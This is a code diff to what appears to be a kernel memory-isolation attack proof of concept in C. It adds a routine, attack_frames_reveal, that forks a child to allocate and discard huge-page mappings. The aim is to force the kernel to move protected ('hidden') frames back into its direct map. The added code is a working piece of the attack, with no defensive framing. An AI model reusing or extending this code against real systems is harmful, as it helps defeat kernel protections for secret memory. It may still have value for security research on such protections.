@@ -12,6 +12,8 @@
  * then, and its upper half, which the kernel has, is what the page after it will get.
  */
 #include <sys/mman.h>
+#include <sys/wait.h>
+#include <unistd.h>
 
 #include "attack.h"
 #include "memory.h"
@@ -21,9 +23,12 @@ enum {
 	FRAMES_PER_BLOCK = 2 * FRAMES_PER_HUGE,
 	CHOSEN_FRAME = 300, /* any but the first ones */
 	SHARE_LEFT = 8,
+	SHARE_KEPT = 32,
 	HALVES_MAX = 16,
 	NR_SMALL = 16,
 	NR_REHEARSALS = 2,
+	REVEALED_WANTED = 12 * FRAMES_PER_BLOCK,
+	TABLES_PER_LOOK = 64,
 };
 
 struct huge_page {
@@ -31,6 +36,42 @@ struct huge_page {
 	uint64_t pfn;
 	bool was_revealed; /* it came out of the direct map for this */
 };
+
+/*
+ * Page tables come out of the direct map, and go back there. For those of pages that are given back
+ * at once the kernel takes hidden frames, too, when it has no others.
+ */
+static void take_tables(struct bw_memory_info info)
+{
+	uint64_t nr_wanted = info.nr_free_revealed + REVEALED_WANTED;
+	char *page = mmap(NULL, nr_wanted * BW_HUGE_PAGE_SIZE, PROT_READ | PROT_WRITE,
+			  MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+
+	while (page != MAP_FAILED && nr_wanted-- > 0 &&
+	       info.nr_free_revealed + info.nr_free_hidden > info.nr_frames_usable / SHARE_KEPT) {
+		*(volatile char *)page = 0;
+		madvise(page, BW_PAGE_SIZE, MADV_DONTNEED);
+		page += BW_HUGE_PAGE_SIZE;
+		if (nr_wanted % TABLES_PER_LOOK == 0) {
+			info = memory_now();
+		}
+	}
+}
+
+void attack_frames_reveal(void)
+{
+	struct bw_memory_info info = memory_now();
+
+	if (info.nr_free_revealed >= REVEALED_WANTED || info.nr_free_hidden < FRAMES_PER_BLOCK) {
+		return;
+	}
+	/* tables are freed with the address space */
+	if (fork() == 0) {
+		take_tables(info);
+		_exit(0);
+	}
+	wait(NULL);
+}
 
 /* So many that the pages still to come will be found, and nobody else goes without. */
 static bool enough_is_revealed(void)
